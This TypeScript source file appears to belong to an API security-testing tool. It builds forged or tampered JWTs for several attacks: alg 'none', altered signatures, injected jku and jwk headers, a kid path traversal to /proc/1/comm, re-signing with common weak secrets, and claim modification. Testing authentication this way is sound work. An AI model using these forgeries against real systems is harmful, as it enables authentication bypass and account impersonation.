import type { JsonTree } from '../attempts/json-tree.ts'
import { NumberText, readTree, treeOf, writeTree } from '../attempts/json-tree.ts'
import type { Literal, LiteralMap } from '../template/template.ts'
import type { Jwt } from './jwt.ts'
import { signHmac, signRsa, writeSegment } from './jwt.ts'
import type { SigningKeys } from './signing-keys.ts'
import { COMMON_SECRETS, secretOf } from './weak-secrets.ts'

/** What tampering needs beside the token. */
interface TamperTools {
  readonly keys: SigningKeys
  nowSeconds(): number
  /** Claim path → value, for `modify_jwt`. */
  readonly claims: LiteralMap
}

/** The words of `${auth_context.…}` and what each makes of a token; null when the installation lacks what it needs. */
export const TAMPERINGS: Readonly<Record<string, (jwt: Jwt, tools: TamperTools) => string | null>> = {
  none_algo_token: (jwt) => `${writeSegment(new Map([...jwt.header, ['alg', 'none']]))}.${jwt.parts[1]}.`,
  invalid_signature_token: ({ parts }) => `${parts[0]}.${parts[1]}.${otherSignature(parts[2])}`,
  jku_added_token(jwt, { keys, nowSeconds }) {
    if (keys.published === null) return null
    const { keyId, url } = keys.published
    const header = new Map<string, JsonTree>([...jwt.header, ['alg', 'RS256'], ['jku', url], ['kid', keyId]])
    return signRsa(header, shifted(jwt.payload, nowSeconds()), keys.published)
  },
  jwk_added_token(jwt, { keys, nowSeconds }) {
    const jwk = treeOf(keys.embedded.publicJwk as LiteralMap)
    const header = new Map<string, JsonTree>([
      ...jwt.header,
      ['alg', 'RS256'],
      ['jwk', jwk],
      ['kid', keys.embedded.keyId],
    ])
    return signRsa(header, shifted(jwt.payload, nowSeconds()), keys.embedded)
  },
  // The file holds the name of the first process, `systemd` and a line end on most machines (CWE-22 through kid).
  kid_added_token: (jwt) =>
    signHmac(
      new Map<string, JsonTree>([...jwt.header, ['alg', 'HS256'], ['kid', '/proc/1/comm']]),
      jwt.payload,
      'systemd',
    ),
  weak_secret_token(jwt) {
    const known = secretOf(jwt)
    const header = known === null ? new Map([...jwt.header, ['alg', 'HS256'] as const]) : jwt.header
    return signHmac(header, reissued(jwt.payload), known ?? COMMON_SECRETS[0]!)
  },
  modify_jwt(jwt, { claims }) {
    const payload = new Map(jwt.payload)
    for (const [path, value] of Object.entries(claims)) setClaim(payload, path.split('.'), claimValue(value))
    return `${jwt.parts[0]}.${writeSegment(payload)}.${jwt.parts[2]}`
  },
}

function otherSignature(signature: string): string {
  return signature === '' ? 'A' : `${signature.startsWith('A') ? 'B' : 'A'}${signature.slice(1)}`
}

/** Issued now, and living as long as the token did; claims that the token lacks are not added. */
function shifted(payload: Map<string, JsonTree>, now: number): Map<string, JsonTree> {
  const [issued, ends] = [payload.get('iat'), payload.get('exp')]
  const life = typeof issued === 'number' && typeof ends === 'number' ? Math.max(ends - issued, 60) : 3600
  const fresh = new Map(payload)
  if (issued !== undefined) fresh.set('iat', now)
  if (fresh.has('nbf')) fresh.set('nbf', now)
  if (ends !== undefined) fresh.set('exp', now + life)
  return fresh
}

/** The same claims in a token that differs: issued a second later, or with a claim that says nothing. */
function reissued(payload: Map<string, JsonTree>): Map<string, JsonTree> {
  const issued = Number(textOf(payload.get('iat')))
  return new Map([
    ...payload,
    Number.isSafeInteger(issued) && issued > 0 ? ['iat', issued - 1] : ['vigil', 484811],
  ] as [string, JsonTree][])
}

function textOf(value: JsonTree | undefined): string {
  return typeof value === 'number' || value instanceof NumberText ? writeTree(value) : ''
}

/** Numbers are recognised in text. */
function claimValue(value: Literal): JsonTree {
  if (typeof value !== 'string') return treeOf(value)
  const tree = /^-?\d/.test(value) ? readTree(value) : undefined
  return typeof tree === 'number' || tree instanceof NumberText ? tree : value
}

function setClaim(payload: Map<string, JsonTree>, path: readonly string[], value: JsonTree): void {
  let at = payload
  for (const step of path.slice(0, -1)) {
    const inner = at.get(step)
    const next: Map<string, JsonTree> = inner instanceof Map ? new Map(inner) : new Map()
    at.set(step, next)
    at = next
  }
  at.set(path.at(-1)!, value)
}
